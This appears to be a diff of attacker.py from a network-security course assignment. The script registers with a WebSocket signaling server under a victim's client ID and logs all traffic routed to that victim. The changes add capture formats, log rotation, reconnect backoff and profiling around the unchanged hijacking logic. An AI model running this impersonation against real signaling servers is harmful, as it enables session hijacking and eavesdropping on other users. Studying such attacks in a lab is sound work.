@@ -22,19 +22,65 @@ Key properties of this implementation:
   * --victim-id   : clientId to impersonate (e.g., "client-a")
   * --display-name: displayName reported in the meta field (optional)
   * --log-file    : path to a log file or "-" for stdout only
-- Logs both raw WebSocket messages and pretty-printed JSON (when possible).
-- Handles connection errors gracefully and attempts automatic reconnects.
+  * --log-max-bytes / --log-backups / --log-on-full : log file rotation
+    and back-pressure behaviour (see common/logsink.py)
+  * --capture-format: "text" (default), "jsonl" (see common/capture.py) or
+    "trace" (binary, see common/trace.py)
+  * --reconnect-first-delay / --reconnect-max-delay / --ping-interval /
+    --ping-timeout : reconnect backoff and liveness checks (see
+    common/supervisor.py)
+  * --startup-profile / --loop-profile : startup phases and event-loop
+    stalls (see common/startup.py and common/loopmon.py)
+- In text mode, logs both raw WebSocket messages and pretty-printed JSON
+  (when possible). In jsonl mode, writes one compact record per frame and
+  leaves pretty-printing to the offline "render" command. In trace mode,
+  frames go to an indexed binary trace and status lines to stdout only.
+- Handles connection errors gracefully and reconnects with exponential
+  backoff; stalled connections are detected with ping/pong.
 - Intended strictly for educational use in the context of the NS assignment.
 """
 
 import argparse
 import asyncio
 import json
+import sys
 from datetime import datetime
-from typing import Optional
+from pathlib import Path
+from typing import TYPE_CHECKING, Optional
 
 import websockets
 
+if TYPE_CHECKING:
+    from websockets import WebSocketClientProtocol
+
+# Shared helpers live in part2_attack/common/, one level above this script.
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from common import capture, logsink, loopmon, startup, supervisor, trace  # noqa: E402
+
+STARTUP = startup.StartupProfile()
+STARTUP.mark("module imports")
+
+
+# Log file format, set from --capture-format in main(). In "jsonl" mode the
+# log file receives compact capture records instead of text lines. In
+# "trace" mode frames are written to TRACE, one trace connection per
+# WebSocket connection (TRACE_CONN), and the log file is not used.
+CAPTURE_FORMAT = "text"
+TRACE: Optional[trace.TraceWriter] = None
+TRACE_CONN = 0
+
+# Event-loop monitor, set up in run_attack() with --loop-profile.
+LOOP_MONITOR: Optional[loopmon.LoopMonitor] = None
+
+
+def hooked(name: str, fn):
+    """
+    `fn` timed under `name` by LOOP_MONITOR, or `fn` itself when the loop
+    is not being profiled.
+    """
+    return fn if LOOP_MONITOR is None else LOOP_MONITOR.wrap(name, fn)
+
 
 def timestamp_utc() -> str:
     """
@@ -65,15 +111,18 @@ def log(message: str, log_file: Optional[str]) -> None:
     Behavior
     --------
     - Always prints to stdout.
-    - If log_file is not None, appends the same line to the given file.
+    - If log_file is not None, hands the same line to the shared LogSink for
+      that file. The sink's writer thread performs the actual file I/O in
+      batches, so this call never blocks the event loop on disk access.
     """
     line = f"[{timestamp_utc()}] {message}"
     print(line)
 
     if log_file is not None:
+        if CAPTURE_FORMAT == "jsonl":
+            line = capture.note_record(message)
         try:
-            with open(log_file, "a", encoding="utf-8") as f:
-                f.write(line + "\n")
+            logsink.get_sink(log_file).write(line)
         except OSError as e:
             # We do not raise here; the primary output (stdout) still works.
             # We log the file error once to stdout so the operator can notice.
@@ -81,8 +130,30 @@ def log(message: str, log_file: Optional[str]) -> None:
                   f"{log_file!r}: {e!r}")
 
 
+def log_frame(direction: str, raw, log_file: Optional[str]) -> None:
+    """
+    Record a single WebSocket frame in jsonl or trace capture mode.
+
+    The frame is printed to stdout as-is and written either to the trace
+    or to the log file as one compact capture record (timestamp, direction,
+    byte length, payload). No JSON decoding or pretty-printing happens here;
+    that is deferred to "python -m common.capture render" /
+    "python -m common.trace dump".
+    """
+    print(f"[{timestamp_utc()}] [{direction}] Raw message: {raw}")
+
+    if TRACE is not None:
+        TRACE.write(direction, raw, TRACE_CONN)
+    elif log_file is not None:
+        try:
+            logsink.get_sink(log_file).write(capture.frame_record(direction, raw))
+        except OSError as e:
+            print(f"[{timestamp_utc()}] [!] Failed to write to log file "
+                  f"{log_file!r}: {e!r}")
+
+
 async def send_registration(
-    ws: websockets.WebSocketClientProtocol,
+    ws: "WebSocketClientProtocol",
     victim_id: str,
     display_name: str,
     log_file: Optional[str],
@@ -131,7 +202,11 @@ async def send_registration(
     }
 
     raw = json.dumps(registration_message)
-    log(f"[C → S] Registration message (impersonating {victim_id!r}): {raw}", log_file)
+    if CAPTURE_FORMAT != "text":
+        log(f"[C → S] Registration message (impersonating {victim_id!r})", log_file)
+        log_frame("C → S", raw, log_file)
+    else:
+        log(f"[C → S] Registration message (impersonating {victim_id!r}): {raw}", log_file)
 
     # This is the moment we actually perform the hijacking attempt:
     # if the server accepts this message, it will associate `victim_id`
@@ -140,7 +215,7 @@ async def send_registration(
 
 
 async def listen_and_log(
-    ws: websockets.WebSocketClientProtocol,
+    ws: "WebSocketClientProtocol",
     log_file: Optional[str],
 ) -> None:
     """
@@ -156,30 +231,47 @@ async def listen_and_log(
 
     Behavior
     --------
-    - Continuously reads messages from the server using "async for".
-    - For each message:
-      * Logs the raw WebSocket payload.
-      * Attempts to parse it as JSON and pretty-print with indentation.
-        If parsing fails, logs that the payload is non-JSON.
+    - Continuously reads messages from the server using "async for" and
+      hands each one to log_message() (timed as "signaling.message" with
+      --loop-profile).
 
     This function does not return under normal operation; it only returns
     when the server closes the connection or an exception occurs.
     """
+    handle = hooked("signaling.message", log_message)
     async for raw in ws:
-        # Log the raw message as-is, exactly what was received.
-        log(f"[S → C] Raw message: {raw}", log_file)
+        handle(raw, log_file)
 
-        # Try to parse the raw string as JSON to provide a nicer view.
-        try:
-            data = json.loads(raw)
-        except json.JSONDecodeError:
-            # The signaling server is expected to send JSON, but we still
-            # defend against malformed or unexpected data.
-            log("[S → C] Failed to parse message as JSON (non-JSON payload).", log_file)
-            continue
 
-        pretty = json.dumps(data, indent=2, sort_keys=True)
-        log("[S → C] JSON message (pretty-printed):\n" + pretty, log_file)
+def log_message(raw, log_file: Optional[str]) -> None:
+    """
+    Log one message received from the signaling server.
+
+    - In jsonl and trace capture modes, the message is written once as a
+      compact record (see log_frame()) and nothing else is done with it.
+    - Otherwise:
+      * Logs the raw WebSocket payload.
+      * Attempts to parse it as JSON and pretty-print with indentation.
+        If parsing fails, logs that the payload is non-JSON.
+    """
+    if CAPTURE_FORMAT != "text":
+        log_frame("S → C", raw, log_file)
+        return
+
+    # Log the raw message as-is, exactly what was received.
+    log(f"[S → C] Raw message: {raw}", log_file)
+
+    # Try to parse the raw string as JSON to provide a nicer view.
+    try:
+        data = json.loads(raw)
+    except json.JSONDecodeError:
+        # The signaling server is expected to send JSON, but we still
+        # defend against malformed or unexpected data.
+        log("[S → C] Failed to parse message as JSON (non-JSON payload).", log_file)
+        return
+
+    pretty = json.dumps(data, indent=2, sort_keys=True)
+    log("[S → C] JSON message (pretty-printed):\n" + pretty, log_file)
 
 
 async def run_attack(
@@ -187,7 +279,10 @@ async def run_attack(
     victim_id: str,
     display_name: str,
     log_file: Optional[str],
-    reconnect_delay: float = 3.0,
+    conn: Optional[supervisor.ConnectionSupervisor] = None,
+    startup_profile: bool = False,
+    loop_profile: bool = False,
+    loop_threshold_ms: float = 100.0,
 ) -> None:
     """
     Orchestrate the registration hijacking attack and handle reconnections.
@@ -211,27 +306,40 @@ async def run_attack(
         Optional path to a log file for logging messages. If None, only
         stdout is used.
 
-    reconnect_delay : float, optional
-        Number of seconds to wait before attempting to reconnect after a
-        connection-related error. A small delay prevents tight reconnection
-        loops if the server is unavailable.
+    conn : Optional[supervisor.ConnectionSupervisor]
+        Connection supervisor that owns connecting, reconnect backoff and
+        liveness pings. If None, one with default settings is created.
+
+    startup_profile : bool
+        Log the startup profile (common/startup.py) once the first
+        registration has been sent.
+
+    loop_profile : bool
+        Watch the event loop with a LoopMonitor (common/loopmon.py): time
+        the registration and the handling of every message, log stalls
+        longer than `loop_threshold_ms` with the loop's stack, and log the
+        summary table on the way out (and on SIGUSR1).
+
+    loop_threshold_ms : float
+        Event-loop lag (ms) reported as a stall.
 
     Behavior
     --------
     - Logs initial configuration.
-    - Enters an infinite loop:
-      * Attempts to connect to the signaling server.
-      * On success:
-        + Sends the registration message (impersonation).
-        + Starts listening to and logging all messages.
-      * If the connection fails or is closed:
-        + Logs the error / closure.
-        + Sleeps for reconnect_delay seconds.
-        + Tries again.
+    - Lets the supervisor connect (and reconnect) indefinitely; on every
+      connection:
+      * Sends the registration message (impersonation).
+      * Starts listening to and logging all messages.
+    - If the connection fails, is closed, or stops answering pings, the
+      supervisor waits according to its backoff policy (short for the
+      first retry, growing exponentially after that) and tries again.
 
     The loop only stops when the entire program is stopped (e.g., via
-    Ctrl+C, which cancels the asyncio event loop).
+    Ctrl+C, which cancels the asyncio event loop). Connection statistics
+    are logged on the way out.
     """
+    global LOOP_MONITOR
+
     log(
         f"[*] Starting registration hijacking attack: "
         f"server={server_url!r}, victim_id={victim_id!r}, "
@@ -239,45 +347,47 @@ async def run_attack(
         log_file,
     )
 
-    # Outer loop that supports automatic reconnects.
-    while True:
-        try:
-            log(f"[*] Connecting to signaling server at {server_url!r} ...", log_file)
-
-            # Establish a new WebSocket connection to the signaling server.
-            async with websockets.connect(server_url) as ws:
-                log("[+] Connected to signaling server.", log_file)
+    if conn is None:
+        conn = supervisor.ConnectionSupervisor(server_url)
+    conn.log = lambda message: log(message, log_file)
 
-                # Immediately send the forged registration message.
-                await send_registration(ws, victim_id, display_name, log_file)
+    if loop_profile:
+        LOOP_MONITOR = loopmon.LoopMonitor(
+            threshold=loop_threshold_ms / 1e3, log=lambda message: log(message, log_file))
+        LOOP_MONITOR.start()
 
-                # Now that we are "registered" as the victim, any messages
-                # intended for that clientId should be delivered to us.
-                # We simply listen and log everything.
-                log("[*] Waiting for messages (intercepting traffic) ...", log_file)
-                await listen_and_log(ws, log_file)
+    async def session(ws) -> None:
+        global TRACE_CONN
+        if TRACE is not None:
+            TRACE_CONN = TRACE.connection(f"{server_url} (connection {len(TRACE.labels) + 1})")
 
-            # If we exit the "async with" context without an exception,
-            # it means the server closed the connection gracefully.
-            log("[*] Connection closed by server. Will attempt to reconnect.", log_file)
+        STARTUP.mark("connected")
 
-        except (websockets.exceptions.ConnectionClosedError,
-                websockets.exceptions.InvalidStatusCode,
-                OSError) as e:
-            # These exceptions typically indicate network-level issues
-            # or that the server is temporarily unavailable.
-            log(f"[!] Connection error: {e!r}", log_file)
+        # Immediately send the forged registration message.
+        await hooked("signaling.register", send_registration)(ws, victim_id, display_name, log_file)
+        if not STARTUP.done("registration sent"):
+            STARTUP.mark("registration sent")
+            if startup_profile:
+                log(STARTUP.report(), log_file)
 
-        except asyncio.CancelledError:
-            # This exception is raised when the asyncio task is cancelled,
-            # which happens when the application is shutting down.
-            log("[!] Attack task cancelled, exiting run_attack().", log_file)
-            break
+        # Now that we are "registered" as the victim, any messages
+        # intended for that clientId should be delivered to us.
+        # We simply listen and log everything.
+        log("[*] Waiting for messages (intercepting traffic) ...", log_file)
+        await listen_and_log(ws, log_file)
 
-        # Wait a bit before reattempting the connection. This prevents
-        # hammering the server in case it is down or misconfigured.
-        log(f"[*] Reconnecting in {reconnect_delay} seconds ...", log_file)
-        await asyncio.sleep(reconnect_delay)
+    try:
+        await conn.run(session)
+    except asyncio.CancelledError:
+        # This exception is raised when the asyncio task is cancelled,
+        # which happens when the application is shutting down.
+        log("[!] Attack task cancelled, exiting run_attack().", log_file)
+    finally:
+        log("[*] Connection statistics:\n" + conn.stats.summary(), log_file)
+        if LOOP_MONITOR is not None:
+            LOOP_MONITOR.stop()
+            log(LOOP_MONITOR.report(), log_file)
+            LOOP_MONITOR = None
 
 
 def parse_args() -> argparse.Namespace:
@@ -291,7 +401,11 @@ def parse_args() -> argparse.Namespace:
         - server_url   : str
         - victim_id    : str
         - display_name : Optional[str]
-        - log_file     : str
+        - log_file     : Optional[str]
+        - capture_format : str
+        - startup_profile, loop_profile : bool
+        - loop_threshold_ms : float
+        - reconnect / ping options (see common/supervisor.py)
     """
     parser = argparse.ArgumentParser(
         description=(
@@ -330,13 +444,85 @@ def parse_args() -> argparse.Namespace:
 
     parser.add_argument(
         "--log-file",
-        default="attacker.log",
+        default=None,
         help=(
-            "Path to a log file. Default: attacker.log. "
+            "Path to a log file. Default: attacker.log (attacker.jsonl / "
+            "attacker.trace with --capture-format jsonl / trace). "
             "Pass '-' to disable file logging and only log to stdout."
         ),
     )
 
+    parser.add_argument(
+        "--capture-format",
+        choices=capture.CAPTURE_FORMATS,
+        default="text",
+        help=(
+            "Log file format. 'text' writes raw and pretty-printed messages "
+            "(the original attacker.log layout). 'jsonl' writes one compact "
+            "record per frame; render it later with "
+            "'python -m common.capture render <file>'. 'trace' writes an "
+            "indexed binary trace of the frames only; inspect it with "
+            "'python -m common.trace dump <file>'. Default: text."
+        ),
+    )
+
+    parser.add_argument(
+        "--log-max-bytes",
+        type=int,
+        default=0,
+        help=(
+            "Rotate the log file once it would grow beyond this many bytes "
+            "(attacker.log -> attacker.log.1 ...). Default: 0 (no rotation)."
+        ),
+    )
+
+    parser.add_argument(
+        "--log-backups",
+        type=int,
+        default=5,
+        help="Number of rotated log files to keep. Default: 5.",
+    )
+
+    parser.add_argument(
+        "--log-on-full",
+        choices=logsink.ON_FULL_POLICIES,
+        default="drop",
+        help=(
+            "What to do when the log writer falls behind and its queue is "
+            "full: 'drop' lines (never stalls the event loop) or 'block' "
+            "until there is room. Default: drop."
+        ),
+    )
+
+    parser.add_argument(
+        "--startup-profile",
+        action="store_true",
+        help=(
+            "Log how long startup took up to each phase (imports, argument "
+            "parsing, connect, registration)."
+        ),
+    )
+
+    parser.add_argument(
+        "--loop-profile",
+        action="store_true",
+        help=(
+            "Measure event-loop lag, time the registration and the handling "
+            "of every received message, and log each stall of the loop with "
+            "the stack it happened in. A summary table is logged on exit and "
+            "on SIGUSR1."
+        ),
+    )
+
+    parser.add_argument(
+        "--loop-threshold-ms",
+        type=float,
+        default=100.0,
+        help="Event-loop lag (ms) reported as a stall with --loop-profile. Default: 100.",
+    )
+
+    supervisor.add_arguments(parser)
+
     return parser.parse_args()
 
 
@@ -357,7 +543,11 @@ def main() -> None:
 
         python attacker.py --server-url ws://localhost:8081 --victim-id client-a
     """
+    global CAPTURE_FORMAT, TRACE
+
     args = parse_args()
+    STARTUP.mark("argument parsing")
+    CAPTURE_FORMAT = args.capture_format
 
     # If the user did not specify a display name, we generate a helpful default
     # that clearly indicates this is an attacker instance tied to a victim id.
@@ -369,9 +559,38 @@ def main() -> None:
     log_file: Optional[str]
     if args.log_file == "-":
         log_file = None
+    elif args.log_file is None:
+        log_file = {"jsonl": "attacker.jsonl", "trace": "attacker.trace"}.get(
+            CAPTURE_FORMAT, "attacker.log")
     else:
         log_file = args.log_file
 
+    # A trace holds frames only: open it here and keep status lines on stdout.
+    if CAPTURE_FORMAT == "trace" and log_file is not None:
+        try:
+            TRACE = trace.TraceWriter(log_file)
+        except OSError as e:
+            print(f"[{timestamp_utc()}] [!] Failed to open trace file "
+                  f"{log_file!r}: {e!r}")
+        log_file = None
+
+    # Create the shared sink up front with the requested rotation and
+    # back-pressure settings; every later log() call for this path reuses it.
+    if log_file is not None:
+        try:
+            logsink.get_sink(
+                log_file,
+                max_bytes=args.log_max_bytes,
+                backup_count=args.log_backups,
+                on_full=args.log_on_full,
+            )
+        except OSError as e:
+            print(f"[{timestamp_utc()}] [!] Failed to open log file "
+                  f"{log_file!r}: {e!r}")
+        else:
+            if CAPTURE_FORMAT == "jsonl":
+                logsink.get_sink(log_file).write(capture.session_record("attacker"))
+
     try:
         asyncio.run(
             run_attack(
@@ -379,6 +598,18 @@ def main() -> None:
                 victim_id=args.victim_id,
                 display_name=display_name,
                 log_file=log_file,
+                conn=supervisor.ConnectionSupervisor(
+                    args.server_url,
+                    supervisor.BackoffPolicy(
+                        first_delay=args.reconnect_first_delay,
+                        max_delay=args.reconnect_max_delay,
+                    ),
+                    ping_interval=args.ping_interval,
+                    ping_timeout=args.ping_timeout,
+                ),
+                startup_profile=args.startup_profile,
+                loop_profile=args.loop_profile,
+                loop_threshold_ms=args.loop_threshold_ms,
             )
         )
     except KeyboardInterrupt:
@@ -386,6 +617,14 @@ def main() -> None:
         # is already stopped by asyncio.run(); here we simply print a final
         # message to make it clear that the termination was intentional.
         print(f"[{timestamp_utc()}] [!] KeyboardInterrupt received, exiting.")
+    finally:
+        # Flush everything still queued and report whether lines were lost.
+        for path, stats in logsink.close_all().items():
+            print(f"[{timestamp_utc()}] [*] Log sink {path!r}: {stats.summary()}")
+        if TRACE is not None:
+            TRACE.close()
+            print(f"[{timestamp_utc()}] [*] Trace {TRACE.path!r}: {len(TRACE)} frame(s), "
+                  f"{TRACE.bytes_written} payload bytes")
 
 
 if __name__ == "__main__":